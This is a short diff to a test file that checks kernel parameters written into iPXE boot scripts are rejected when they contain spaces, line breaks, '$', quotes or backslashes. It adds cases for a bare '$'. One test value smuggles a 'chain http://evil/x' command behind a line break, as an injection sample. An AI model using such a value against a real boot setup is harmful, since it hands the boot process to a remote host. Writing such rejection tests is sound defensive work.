@@ -54,6 +54,10 @@ describe("kernel parameters written into iPXE scripts", () => {
     ["a b", "space"],
     ["a=1\nchain http://evil/x", "line break"],
     ["x=${net0/ip}", "$"],
+    // A bare `$` too, not only `${`: netbuild sets iPXE variables itself and writes none of the user's.
+    ["x=$net0", "$"],
+    ["price=5$", "$"],
+    ["$", "$"],
     ['x="quoted"', "quote"],
     ["x='q'", "quote"],
     ["x=\\", "backslash"],
